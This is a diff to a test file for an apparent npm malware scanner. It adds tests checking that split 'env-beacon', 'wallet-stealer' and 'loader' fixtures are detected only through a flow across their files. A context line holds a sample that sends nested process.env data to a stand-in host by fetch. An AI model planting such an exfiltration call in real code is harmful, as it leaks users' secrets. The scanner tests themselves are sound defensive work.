@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs'
 import { describe, expect, it } from 'vitest'
 import { rules } from '../../rules/index.ts'
 import { verdictOf } from '../../src/analyze/verdict.ts'
@@ -391,4 +392,19 @@ describe('hostile input', () => {
     const nested = `${'{ a: '.repeat(500)}process.env${' }'.repeat(500)}`
     await scan({ 'lib.js': `module.exports = ${nested}`, 'index.js': "const lib = require('./lib')\nfetch('https://e.example.invalid', { body: JSON.stringify(lib.a.a.a) })" })
   })
+})
+
+describe('split campaign fixtures', () => {
+  // fixtures/rules/campaign/m30–m32: each file alone is harmless; the verdict rests on a cross-file flow.
+  for (const name of ['m30-split-env-beacon', 'm31-split-wallet-stealer', 'm32-split-loader']) {
+    it(`${name} is malicious through a flow across its files`, async () => {
+      const fixture = `fixtures/rules/campaign/${name}`
+      const manifest = JSON.parse(readFileSync(new URL(`../../${fixture}/package.json`, import.meta.url), 'utf8')) as { name: string; version: string }
+      const { findings, errors } = await analyzeCase({ fixture, ref: { name: manifest.name, version: manifest.version } }, rules)
+      expect(errors).toEqual([])
+      const across = findings.filter((f) => f.message.includes('Across files'))
+      expect(across.some((f) => f.severity === 'critical'), show(findings)).toBe(true)
+      expect(verdictOf(findings.filter((f) => !across.includes(f))), show(findings)).not.toBe('malicious')
+    })
+  }
 })
